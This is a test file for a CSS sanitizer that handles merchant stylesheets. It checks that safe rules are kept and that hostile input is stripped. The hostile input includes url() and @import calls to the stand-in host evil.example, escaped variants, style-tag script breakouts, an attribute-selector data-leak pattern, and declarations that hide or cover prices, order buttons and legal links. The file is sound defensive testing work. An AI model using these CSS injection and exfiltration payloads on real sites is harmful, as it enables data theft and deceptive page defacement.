import { describe, expect, it } from 'vitest';
import { cleanCss } from './clean-css.ts';

describe("a merchant's stylesheet (S3 A8)", () => {
  it.each([
    ['.dish-card { border-radius: 0 }', '.dish-card{border-radius:0}'],
    [':root { --accent: oklch(0.7 0.2 30) }', ':root{--accent:oklch(0.7 0.2 30)}'],
    ['@media (min-width: 40em) { .menu { gap: 1rem } }', '@media (min-width:40em){.menu{gap:1rem}}'],
    ['.x { position: relative }', '.x{position:relative}'],
    ['.a { &:hover { color: red } }', '.a{&:hover{color:red}}'],
    [
      '.hero { background: url(/media/tramonto/header/1920x1080.webp) center }',
      '.hero{background:url(/media/tramonto/header/1920x1080.webp)center}',
    ],
    ['@supports (display: grid) { .x { display: grid } }', '@supports (display:grid){.x{display:grid}}'],
    ['.x { margin: 0 auto var(--space-3) 1rem }', '.x{margin:0 auto var(--space-3) 1rem}'],
    ['.x { font-size: 1.2rem; line-height: 1.4 }', '.x{font-size:1.2rem;line-height:1.4}'],
    ['.x { display: grid; width: min(100%, 40rem) }', '.x{display:grid;width:min(100%,40rem)}'],
    ['.x { box-shadow: 0 -2px 8px rgb(0 0 0/20%) }', '.x{box-shadow:0-2px 8px rgb(0 0 0/20%)}'],
    [':root { --accent: oklab(0.6 -0.1 0.1) }', ':root{--accent:oklab(0.6-0.1 0.1)}'],
    ['</style>\n.x { color: red }', '.x{color:red}'],
    ['.a { color: blue }\n  </style><script>alert(1)</script>\n.x { color: red }', '.a{color:blue}.x{color:red}'],
    ['[title="</style>"] { color: blue }\n.x { color: red }', '.x{color:red}'],
    ['.x { color: color-mix(in oklab, red 20%, white) }', '.x{color:color-mix(in oklab,red 20%,white)}'],
  ])('keeps %s', (css, kept) => {
    expect(cleanCss(css)).toBe(kept);
  });

  it.each([
    '@import url(https://evil.example/a.css);',
    '@import "a.css";',
    '@\\69mport "a.css";',
    '.x { background: url(https://evil.example/?a) }',
    '.x { background: url(//evil.example/a.webp) }',
    '.x { background: url("data:image/svg+xml,<svg/>") }',
    '.x { background: u\\72l(https://evil.example) }',
    '.x { background: URL(https://evil.example) }',
    '.x { background: url(/media/../api/office/session) }',
    '.x { --trick: url(https://evil.example) }',
    '.x { background: image-set("https://evil.example" 1x) }',
    '.x { background: -webkit-image-set("https://evil.example" 1x) }',
    '@font-face { font-family: x; src: url(https://evil.example/x.woff2) }',
    '.x { width: expression(alert(1)) }',
    '.x { behavior: url(x.htc) }',
    '.x { -moz-binding: url(x.xml) }',
    '.x { position: fixed; inset: 0 }',
    '.x { position: f\\69xed }',
    '.x { --p: fixed; position: var(--p) }',
    '.x { --p: f; position: env(x, fixed) }',
    '.x { position: absolute }',
    '.x { position: -webkit-sticky }',
    '.x { position: STICKY !important }',
    '.x { position: inherit }',
    '.x { all: inherit }',
    '.x { p\\6fsition: absolute }',
    '.x::after { content: "</style><script>alert(1)</script>" }',
    'input[value^="a"] { background: url(https://evil.example/a) }',
    '</style><script>alert(1)</script>',
    '.x { color: red } } .y { background: url(https://evil.example) }',
  ])('neutralizes %s', (css) => {
    const clean = cleanCss(css);
    expect(clean).not.toMatch(/evil|import|expression|behavior|binding|inherit|position|<\/|script|svg|url\(/i);
  });

  it.each([
    'translate: -100vw',
    'transform: scale(0)',
    '-webkit-transform: scale(0)',
    'scale: 0',
    'rotate: 90deg',
    'zoom: 0.01',
    'margin-top: -300px',
    'margin: 0 -1px',
    'margin: calc(0px - 9rem)',
    'margin: calc(9rem * cos(180deg))',

    '--space-4: -9rem',
    '--space-4: calc(1px - 9rem)',
    '--step-0: 0rem',
    '--on-button: transparent',
    '--m: calc(1px * sign(-1px))',

    'z-index: 9',
    'opacity: 0',
    'visibility: hidden',
    'clip-path: inset(50%)',
    '-webkit-mask: none',
    'filter: opacity(0)',
    'display: none',
    'display: contents',
    'display: var(--d)',
    'top: -9rem',
    'inset: 0',
    'float: left',
    'order: 9',

    'pointer-events: none',
    'overflow: hidden',
    'content-visibility: hidden',
    'text-indent: -9999px',
    'grid-area: 1/1',

    'height: 0',
    'max-height: 1px',
    'width: 0%',
    'font-size: 0',
    'font-size: 1px',
    'line-height: 0',
    'letter-spacing: -1em',

    'color: transparent',
    'color: #fff0',
    'color: rgb(0 0 0 / 0)',
    '-webkit-text-fill-color: transparent',
    'mix-blend-mode: screen',
    'box-shadow: 0 0 0 9999px white',
    'outline: 500px solid white',
    'o\\70 acity: 0',
    'OPACITY: 0 !important',
  ])('neither covers nor hides the order button, prices and legal links by %s', (declaration) => {
    expect(cleanCss(`.x { ${declaration}; font-weight: 700 }`)).toBe('.x{font-weight:700}');
    expect(cleanCss(`@keyframes x { to { ${declaration} } }`)).not.toContain(':');
  });

  it('accepts malformed CSS', () => {
    for (const css of ['', '}}}', '{', '@', 'a{b:c', '\u0000', '/*', '"'.repeat(5000), '('.repeat(2000)]) {
      expect(typeof cleanCss(css)).toBe('string');
    }
  });
});
